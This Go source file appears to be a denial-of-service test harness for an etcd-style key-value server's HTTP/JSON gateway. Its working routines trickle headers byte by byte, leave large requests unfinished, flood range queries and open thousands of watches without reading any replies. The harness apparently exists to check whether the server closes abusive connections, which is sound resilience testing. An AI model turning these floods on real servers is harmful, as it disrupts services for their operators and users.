package main

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// httpAttacks are attacks on the JSON side of the client port.
func httpAttacks() []attack {
	return []attack{
		{name: "HTTP headers that trickle", flood: trickleHeaders},
		{name: "unfinished JSON requests", flood: leaveJSONUnfinished},
		{name: "JSON answers that nobody reads", prepare: fillKeys, flood: ignoreJSONAnswers},
		{name: "JSON watches that nobody reads", prepare: fillKeys, flood: ignoreJSONWatches},
	}
}

// onHTTP opens connections again and again from several goroutines. A connection that fill leaves without an error stays
// open until the server closes it. Nothing is read meanwhile.
func onHTTP(ctx context.Context, addr string, conns int, fill func(ctx context.Context, conn net.Conn) error) []figure {
	var opened, closed atomic.Int64
	dialer := net.Dialer{LocalAddr: attackerAddress}
	repeat(ctx, conns, func(ctx context.Context, _ int) {
		conn, err := dialer.DialContext(ctx, "tcp", addr)
		if err != nil {
			pause(ctx, 10*time.Millisecond)
			return
		}
		defer conn.Close()
		opened.Add(1)
		stop := context.AfterFunc(ctx, func() { conn.SetDeadline(time.Unix(1, 0)) })
		defer stop()
		if err = conn.(*net.TCPConn).SetReadBuffer(4 << 10); err == nil {
			err = fill(ctx, conn)
		}
		if err == nil {
			err = awaitClosed(ctx, conn)
		}
		if err != nil && ctx.Err() == nil {
			closed.Add(1)
		}
	})
	return []figure{
		{name: "connections opened", value: float64(opened.Load())},
		{name: "connections that the server closed", value: float64(closed.Load())},
	}
}

// awaitClosed waits until the server closes the connection. It reads nothing, so it notices by a byte that it cannot write.
func awaitClosed(ctx context.Context, conn net.Conn) error {
	for ctx.Err() == nil {
		pause(ctx, time.Second)
		if _, err := io.WriteString(conn, " "); err != nil {
			return err
		}
	}
	return nil
}

// postJSON is the head of a request with a body of that many bytes.
func postJSON(path string, bytes int) string {
	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n", path, bytes)
}

// asJSON returns a whole request.
func asJSON(path string, body any) string {
	text, err := json.Marshal(body)
	if err != nil {
		panic(err)
	}
	return postJSON(path, len(text)) + string(text)
}

// trickleHeaders sends headers a byte at a time on many connections.
func trickleHeaders(ctx context.Context, addr string) ([]figure, error) {
	return onHTTP(ctx, addr, 512, func(ctx context.Context, conn net.Conn) error {
		if _, err := io.WriteString(conn, "POST /v3/kv/put HTTP/1.1\r\nHost: localhost\r\nX-Abuse: "); err != nil {
			return err
		}
		for ctx.Err() == nil {
			if _, err := io.WriteString(conn, "a"); err != nil {
				return err
			}
			pause(ctx, 20*time.Millisecond)
		}
		return nil
	}), nil
}

// leaveJSONUnfinished sends nearly all of many large puts, and never the rest.
func leaveJSONUnfinished(ctx context.Context, addr string) ([]figure, error) {
	body := `{"key":"YQ==","value":"` + strings.Repeat("A", unfinishedPart)
	return onHTTP(ctx, addr, 512, func(_ context.Context, conn net.Conn) error {
		_, err := io.WriteString(conn, postJSON("/v3/kv/put", len(body)+1<<10)+body)
		return err
	}), nil
}

// ignoreJSONAnswers asks for all keys again and again, and reads nothing.
func ignoreJSONAnswers(ctx context.Context, addr string) ([]figure, error) {
	ask := asJSON("/v3/kv/range", map[string]any{"key": text64("filled/"), "range_end": text64("filled0"), "serializable": true})
	return onHTTP(ctx, addr, 64, func(_ context.Context, conn net.Conn) error {
		_, err := io.WriteString(conn, strings.Repeat(ask, 100))
		return err
	}), nil
}

// ignoreJSONWatches opens watches on all keys that read nothing, and puts large values again and again.
func ignoreJSONWatches(ctx context.Context, addr string) ([]figure, error) {
	conns, err := dialFrom(attackerAddress, addr, 1)
	if err != nil {
		return nil, err
	}
	defer conns.close()
	var o outcomes
	var putting sync.WaitGroup
	putting.Go(func() { putAgain(ctx, conns[0], &o) })
	watch := asJSON("/v3/watch", map[string]any{"create_request": map[string]any{"key": text64("filled/"), "range_end": text64("filled0")}})
	figures := onHTTP(ctx, addr, 2000, func(_ context.Context, conn net.Conn) error {
		_, err := io.WriteString(conn, watch)
		return err
	})
	putting.Wait()
	return append(figures, o.figures()...), nil
}

func text64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
